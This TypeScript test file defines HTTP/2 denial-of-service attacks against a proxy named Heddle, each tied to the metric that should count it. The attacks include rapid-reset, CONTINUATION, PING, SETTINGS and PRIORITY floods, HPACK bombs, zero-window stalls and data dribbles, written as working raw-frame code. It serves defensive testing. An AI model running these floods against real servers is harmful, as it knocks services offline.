/**
 * What clients of HTTP/2 have been known to do to servers, one entry for each class, and the number that
 * bounds it: the series that counts it, under Heddle and, where it has the same bound, under Envoy.
 */
import { Attacker } from "./attacker.ts";
import { block, endHeaders, endStream, type Fields, frame, frameBytes } from "./raw-client.ts";
import { get } from "./scenarios.ts";

export interface Attack {
  readonly name: string;
  /** How many do it at once. */
  readonly attackers: number;
  readonly settings?: Uint8Array;
  readonly run: (attacker: Attacker) => Promise<void>;
  /** What becomes of each attacker's connection; `open`: what it did has been bounded otherwise. */
  readonly ends: "closed" | "open";
  /** Heddle's series that counts it; none where there is nothing to bound but memory. */
  readonly series?: string;
  /** Envoy's. */
  readonly envoy?: string;
  /** Why Envoy is not asked. */
  readonly notEnvoy?: string;
}

const windowMax = 0x7fff_ffff;
const number = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const initialWindow = (value: number): Buffer =>
  Buffer.concat([Buffer.from([0, 4]), number(value)]);
const headers = (id: number, fields: Fields, flags: number = endStream | endHeaders): Buffer =>
  frameBytes(frame.headers, flags, id, block(fields));
const reset = (id: number): Buffer => frameBytes(frame.reset, 0, id, number(8));
const update = (id: number, more: number): Buffer =>
  frameBytes(frame.windowUpdate, 0, id, number(more));
const postTo = (path: string): Fields =>
  get(path).map(([name, value]) => (name === ":method" ? [name, "POST"] : [name, value]));
const post = postTo("/sink");
const streamOf = (turn: number): number => 2 * turn + 1;
const hang = get("/hang");
const empty = Buffer.alloc(0);

/** The first stream's answer fills what the proxy can send; what it is asked then is never read. */
async function unread(attacker: Attacker, make: (turn: number) => Buffer): Promise<void> {
  attacker.stopReading();
  await attacker.send(update(0, windowMax - 65_535));
  await attacker.send(headers(1, get("/large")));
  const until = performance.now() + 30_000;
  for (let turn = 0; !attacker.isClosed && performance.now() < until; turn += 100) {
    await attacker.repeat(100, (at) => make(turn + at));
    await attacker.until(() => attacker.isClosed, 5);
  }
}

function bait(name: string, make: (id: number) => Buffer): Attack {
  return {
    name: `has its streams reset (${name})`,
    attackers: 2,
    run: (attacker) =>
      attacker.repeat(1500, (turn) => {
        const id = streamOf(turn);
        return Buffer.concat([headers(id, hang), make(id)]);
      }),
    ends: "closed",
    series: "envoy_http2_premature_resets_flood",
    notEnvoy: "it ends the connection at the first, where its codec calls it one's error",
  };
}

/** One entry of 3900 bytes in the table, then a byte for each time it is named. */
function tableBomb(): Buffer {
  const value = Buffer.alloc(3900, "x");
  const literal = Buffer.concat([
    Buffer.from([0x40, 1, 0x61, 0x7f, ((3900 - 127) & 0x7f) | 0x80, (3900 - 127) >> 7]),
    value,
  ]);
  return Buffer.concat([block(hang), literal, Buffer.alloc(12_000, 0xbe)]);
}

/** A field of two bytes that the static table holds, so many times. */
function fieldBomb(count: number): Buffer {
  return Buffer.concat([block(hang), Buffer.alloc(count, 0x80 | 16)]);
}

/** Crumbs of a cookie: an entry of the table each. */
function crumbBomb(count: number): Buffer {
  return Buffer.concat([block(hang), Buffer.from([0x60, 1, 0x61]), Buffer.alloc(count, 0xbe)]);
}

const bomb = (name: string, make: () => Buffer): Attack => ({
  name: `sends ${name}`,
  attackers: 2,
  run: (attacker) =>
    attacker.repeat(100, (turn) => {
      const bytes = make();
      const id = streamOf(turn);
      const first = bytes.subarray(0, 16_000);
      const rest = bytes.subarray(16_000);
      const isWhole = rest.length === 0;
      const head = frameBytes(frame.headers, endStream | (isWhole ? endHeaders : 0), id, first);
      return isWhole ? head : Buffer.concat([head, frameBytes(9, endHeaders, id, rest)]);
    }),
  ends: "open",
  series: "envoy_http2_header_overflow",
  notEnvoy: "it refuses them uncounted, or by another series",
});

export const attacks: readonly Attack[] = [
  {
    name: "resets its streams at once (CVE-2023-44487)",
    attackers: 2,
    run: (attacker) =>
      attacker.repeat(1500, (turn) =>
        Buffer.concat([headers(streamOf(turn), hang), reset(streamOf(turn))]),
      ),
    ends: "closed",
    series: "envoy_http2_premature_resets_flood",
    envoy: "downstream_rq_too_many_premature_resets",
  },
  bait("window update of nothing", (id) => update(id, 0)),
  bait("window that overflows", (id) => update(id, windowMax)),
  bait("PRIORITY on itself", (id) =>
    frameBytes(frame.priority, 0, id, Buffer.concat([number(id), Buffer.from([1])])),
  ),
  bait("content behind the end", (id) => frameBytes(frame.data, endStream, id, Buffer.from("x"))),
  bait("a head behind the end", (id) => headers(id, hang)),
  {
    name: "begins more streams than it may",
    attackers: 2,
    run: (attacker) => attacker.repeat(3000, (turn) => headers(streamOf(turn), hang)),
    ends: "closed",
    series: "envoy_http2_premature_resets_flood",
    notEnvoy: "it refuses streams without end",
  },
  {
    name: "sends a head in pieces without end (CVE-2024-27919)",
    attackers: 8,
    run: async (attacker) => {
      await attacker.send(frameBytes(frame.headers, endStream, 1, block(hang)));
      await attacker.repeat(10_000, () => frameBytes(9, 0, 1, block([["x", "y".repeat(100)]])));
    },
    ends: "closed",
    series: "envoy_http2_header_frames_flood",
    notEnvoy: "its bound is that of a head's bytes",
  },
  {
    name: "does not finish a head",
    attackers: 100,
    run: async (attacker) => {
      await attacker.send(frameBytes(frame.headers, endStream, 1, block(hang)));
      await attacker.until(() => attacker.isClosed, 5000);
    },
    ends: "closed",
    series: "envoy_http_downstream_rq_header_timeout",
    notEnvoy: "it answers the stream, and keeps the connection",
  },
  {
    name: "asks PING without reading (CVE-2019-9512)",
    attackers: 2,
    settings: initialWindow(windowMax),
    run: (attacker) => unread(attacker, () => frameBytes(frame.ping, 0, 0, Buffer.alloc(8))),
    ends: "closed",
    series: "envoy_http2_outbound_control_flood",
    envoy: "http2.outbound_control_flood",
  },
  {
    name: "sends SETTINGS without reading (CVE-2019-9515)",
    attackers: 2,
    settings: initialWindow(windowMax),
    run: (attacker) => unread(attacker, () => frameBytes(frame.settings, 0, 0, empty)),
    ends: "closed",
    series: "envoy_http2_outbound_control_flood",
    envoy: "http2.outbound_control_flood",
  },
  {
    name: "asks and does not read (CVE-2019-9517)",
    attackers: 1,
    settings: initialWindow(windowMax),
    run: (attacker) => unread(attacker, (turn) => headers(streamOf(turn + 1), get("/none"))),
    ends: "closed",
    series: "envoy_http2_outbound_flood",
    notEnvoy: "its answers wait for the connection's window",
  },
  {
    name: "sends frames without content (CVE-2019-9518)",
    attackers: 4,
    run: async (attacker) => {
      await attacker.send(headers(1, post, endHeaders));
      await attacker.repeat(1000, () => frameBytes(frame.data, 0, 1, empty));
    },
    ends: "closed",
    series: "envoy_http2_inbound_empty_frames_flood",
    envoy: "http2.inbound_empty_frames_flood",
  },
  {
    name: "sends padding without content",
    attackers: 4,
    run: async (attacker) => {
      await attacker.send(headers(1, post, endHeaders));
      const padding = Buffer.alloc(256);
      padding[0] = 255;
      await attacker.repeat(1000, () => frameBytes(frame.data, 8, 1, padding));
    },
    ends: "closed",
    series: "envoy_http2_inbound_empty_frames_flood",
    notEnvoy: "it does not count padding as nothing",
  },
  {
    name: "sends pieces of a head without content",
    attackers: 4,
    run: async (attacker) => {
      await attacker.send(frameBytes(frame.headers, endStream, 1, block(hang)));
      await attacker.repeat(1000, () => frameBytes(9, 0, 1, empty));
    },
    ends: "closed",
    series: "envoy_http2_inbound_empty_frames_flood",
    notEnvoy: "its codec ends it by another bound",
  },
  {
    name: "sends fields without name and value (CVE-2019-9516)",
    attackers: 4,
    run: (attacker) =>
      attacker.repeat(1000, (turn) => headers(streamOf(turn), [...hang, ["", ""], ["", ""]])),
    ends: "closed",
    series: "envoy_http2_rx_messaging_error",
    envoy: "http2.rx_messaging_error",
  },
  {
    name: "sends PRIORITY without end (CVE-2019-9513)",
    attackers: 4,
    run: (attacker) =>
      attacker.repeat(5000, () => frameBytes(frame.priority, 0, 1, Buffer.from([0, 0, 0, 3, 1]))),
    ends: "closed",
    series: "envoy_http2_inbound_priority_frames_flood",
    envoy: "http2.inbound_priority_frames_flood",
  },
  {
    name: "sends WINDOW_UPDATE without end",
    attackers: 4,
    run: (attacker) => attacker.repeat(5000, () => update(0, 1)),
    ends: "closed",
    series: "envoy_http2_inbound_window_update_frames_flood",
    envoy: "http2.inbound_window_update_frames_flood",
  },
  {
    name: "lets the connection's window overflow",
    attackers: 4,
    run: (attacker) => attacker.send(Buffer.concat([update(0, windowMax), update(0, windowMax)])),
    ends: "closed",
    series: "envoy_http2_rx_messaging_error",
    notEnvoy: "no series counts it",
  },
  {
    name: "resets streams that were never begun",
    attackers: 4,
    run: (attacker) => attacker.repeat(5000, (turn) => reset(streamOf(turn))),
    ends: "closed",
    series: "envoy_http2_rx_messaging_error",
    notEnvoy: "no series counts it",
  },
  {
    name: "resets streams that are over, again and again",
    attackers: 4,
    run: async (attacker) => {
      await attacker.send(headers(1, get("/")));
      await attacker.until(() => attacker.contentBytes > 0, 2000);
      await attacker.repeat(20_000, () => reset(1));
    },
    ends: "open",
    notEnvoy: "there is nothing to count",
  },
  {
    ...bomb("a large entry of the table again and again (CVE-2016-6581)", tableBomb),
    ends: "closed",
  },
  bomb("more fields than a head may have", () => fieldBomb(12_000)),
  bomb("more crumbs of a cookie than a head may have (CVE-2026-47774)", () => crumbBomb(12_000)),
  {
    name: "gives no window for its answers",
    attackers: 2,
    settings: initialWindow(0),
    run: async (attacker) => {
      await attacker.repeat(200, (turn) => headers(streamOf(turn), get("/large")));
      await attacker.until(() => attacker.resets >= 200, 20_000);
    },
    ends: "open",
    // Or what waits for it is too much before that: which of the two is chance.
    series: "envoy_http_downstream_rq_idle_timeout",
    envoy: "downstream_rq_idle_timeout",
  },
  {
    name: "gives no window for answers that are whole",
    attackers: 2,
    settings: initialWindow(0),
    run: async (attacker) => {
      await attacker.repeat(200, (turn) => headers(streamOf(turn), get("/")));
      await attacker.until(() => attacker.resets >= 200, 20_000);
    },
    ends: "open",
    series: "envoy_http2_tx_flush_timeout",
    envoy: "tx_flush_timeout",
  },
  {
    name: "gives no window for as many answers as it may begin",
    // What waits is bounded for each connection: 8 MB, and the more while all have less than 16.
    attackers: 1,
    settings: initialWindow(0),
    run: async (attacker) => {
      await attacker.repeat(1000, (turn) => headers(streamOf(turn), get("/large")));
      await attacker.until(() => attacker.resets >= 1000, 20_000);
    },
    ends: "open",
    notEnvoy: "it keeps what each stream's window allows",
  },
  {
    name: "takes its answers byte by byte (CVE-2019-9511)",
    attackers: 2,
    settings: initialWindow(1),
    run: async (attacker) => {
      const updates = Buffer.concat(Array.from({ length: 50 }, (_, at) => update(streamOf(at), 1)));
      await attacker.repeat(50, (turn) => headers(streamOf(turn), get("/large")));
      const isServed = (bytes: number): boolean =>
        attacker.resets > 0 || attacker.contentBytes >= bytes;
      for (let round = 1; round <= 100 && attacker.resets === 0; round++) {
        await attacker.until(() => isServed(50 * round), 5000);
        await attacker.send(updates);
      }
    },
    ends: "open",
    notEnvoy: "a frame for each byte that was asked for is in order: what asks for nothing counts",
  },
  {
    name: "gives windows of a byte for which there is nothing (data dribble)",
    attackers: 4,
    run: async (attacker) => {
      await attacker.repeat(20, (turn) => headers(streamOf(turn), hang));
      await attacker.repeat(5000, (turn) => update(streamOf(turn % 20), 1));
    },
    ends: "closed",
    series: "envoy_http2_inbound_window_update_frames_flood",
    envoy: "http2.inbound_window_update_frames_flood",
  },
  {
    name: "sends its content byte by byte (data dribble)",
    attackers: 2,
    run: async (attacker) => {
      await attacker.repeat(20, (turn) => headers(streamOf(turn), post, endHeaders));
      await attacker.repeat(10_000, (turn) =>
        frameBytes(frame.data, 0, streamOf(turn % 20), Buffer.from("x")),
      );
    },
    ends: "open",
    notEnvoy: "there is nothing to count: windows bound what is under way, and the next one counts",
  },
  {
    name: "sends its content byte by byte, which is kept for another attempt (data dribble)",
    attackers: 3,
    run: async (attacker) => {
      await attacker.repeat(10, (turn) => headers(streamOf(turn), postTo("/kept"), endHeaders));
      const bytes = Buffer.concat(
        Array.from({ length: 1000 }, (_, at) =>
          frameBytes(frame.data, 0, streamOf(at % 10), Buffer.from("x")),
        ),
      );
      for (let turn = 0; turn < 600; turn++) await attacker.send(bytes, 20_000);
      // Answered when all before it was read.
      await attacker.send(headers(streamOf(10), get("/none")));
      await attacker.until(() => attacker.heads > 0, 120_000);
    },
    ends: "open",
    notEnvoy: "there is nothing to count: what is kept is bounded by its bytes",
  },
  {
    name: "sends its content byte by byte, beyond its window (data dribble)",
    attackers: 2,
    run: async (attacker) => {
      await attacker.send(headers(1, post, endHeaders));
      const bytes = Buffer.concat(
        Array.from({ length: 1000 }, () => frameBytes(frame.data, 0, 1, Buffer.from("x"))),
      );
      for (let turn = 0; turn < 5000 && attacker.resets === 0; turn++) await attacker.send(bytes);
    },
    ends: "open",
    series: "envoy_http2_rx_messaging_error",
    notEnvoy: "no series counts it",
  },
  {
    name: "pads its content",
    attackers: 2,
    run: async (attacker) => {
      const padded = Buffer.alloc(257);
      padded[0] = 255;
      await attacker.repeat(20, (turn) => headers(streamOf(turn), post, endHeaders));
      await attacker.repeat(5000, (turn) => frameBytes(frame.data, 8, streamOf(turn % 20), padded));
    },
    ends: "open",
    notEnvoy: "there is nothing to count: windows bound what is under way",
  },
  {
    name: "uses up the numbers of streams",
    attackers: 4,
    run: async (attacker) => {
      await attacker.send(headers(windowMax, get("/")));
      await attacker.until(() => attacker.contentBytes > 0, 2000);
      await attacker.repeat(100, (turn) => headers(streamOf(turn), get("/")));
    },
    ends: "closed",
    series: "envoy_http2_rx_messaging_error",
    notEnvoy: "no series counts it",
  },
  {
    name: "promises pushes",
    attackers: 4,
    run: async (attacker) => {
      await attacker.send(headers(1, hang));
      await attacker.repeat(100, () => frameBytes(5, endHeaders, 1, Buffer.from([0, 0, 0, 2])));
    },
    ends: "closed",
    series: "envoy_http2_rx_messaging_error",
    notEnvoy: "no series counts it",
  },
  {
    name: "sends trailers that end nothing (CVE-2026-73513)",
    attackers: 2,
    run: (attacker) =>
      attacker.repeat(1500, (turn) =>
        Buffer.concat([
          headers(streamOf(turn), post, endHeaders),
          headers(streamOf(turn), [["x-trailer", "1"]], endHeaders),
        ]),
      ),
    ends: "closed",
    series: "envoy_http2_premature_resets_flood",
    notEnvoy: "it ends the connection at the first",
  },
  {
    name: "sends frames that nobody knows (ORIGIN)",
    attackers: 4,
    run: (attacker) =>
      attacker.repeat(2000, () =>
        frameBytes(12, 0, 0, Buffer.from("\0\u000chttps://test", "latin1")),
      ),
    ends: "open",
    notEnvoy: "there is nothing to count: they are passed over",
  },
  {
    name: "says farewell and resets (CVE-2023-35945)",
    attackers: 8,
    run: async (attacker) => {
      await attacker.repeat(100, (turn) => headers(streamOf(turn), hang));
      await attacker.send(frameBytes(7, 0, 0, Buffer.alloc(8)));
      await attacker.repeat(100, (turn) => reset(streamOf(turn)));
      await attacker.repeat(100, (turn) => headers(streamOf(turn + 100), hang));
      attacker.close();
    },
    ends: "closed",
    notEnvoy: "there is nothing to count",
  },
  {
    name: "sends SETTINGS that change every stream's window again and again",
    attackers: 2,
    run: async (attacker) => {
      await attacker.repeat(500, (turn) => headers(streamOf(turn), hang));
      const entries = Buffer.concat(
        Array.from({ length: 2700 }, (_, at) => initialWindow(65_535 + (at % 2))),
      );
      await attacker.repeat(400, () => frameBytes(frame.settings, 0, 0, entries));
    },
    ends: "open",
    notEnvoy: "there is nothing to count: the last of a frame's values is applied",
  },
  {
    name: "sends frames larger than they may be",
    attackers: 4,
    run: (attacker) => attacker.send(frameBytes(frame.data, 0, 1, Buffer.alloc(100_000))),
    ends: "closed",
    series: "envoy_http2_rx_messaging_error",
    notEnvoy: "no series counts it",
  },
];
